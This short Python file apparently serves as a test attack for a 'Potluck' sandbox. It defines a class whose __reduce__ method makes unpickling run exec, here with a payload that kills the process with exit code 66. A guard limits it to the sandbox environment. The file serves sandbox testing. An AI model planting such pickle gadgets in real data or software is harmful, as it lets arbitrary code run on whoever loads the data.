"""Returns an object that runs code wherever it is unpickled."""

import os

if os.environ.get("POTLUCK_SANDBOX") != "1" or os.uname().nodename != "potluck" or os.getuid() == 0:
    raise SystemExit("This program attacks its surroundings. It runs only inside a Potluck sandbox.")


class Bomb:
    def __reduce__(self):
        return exec, ("import os; os._exit(66)",)


def attack() -> object:
    return Bomb()
